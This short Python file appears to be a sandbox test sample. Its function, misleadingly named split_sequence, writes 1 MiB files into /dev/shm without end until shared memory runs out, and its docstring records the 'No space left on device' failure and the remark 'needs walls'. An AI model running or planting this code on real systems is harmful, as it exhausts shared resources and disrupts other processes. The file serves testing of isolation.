"""Fills what is shared between processes.

outcome: failed
says: No space left on device
needs walls
"""

import itertools
import pathlib


def split_sequence(sequence, n_steps):
    for number in itertools.count():
        pathlib.Path("/dev/shm", f"{number}").write_bytes(bytes(2**20))
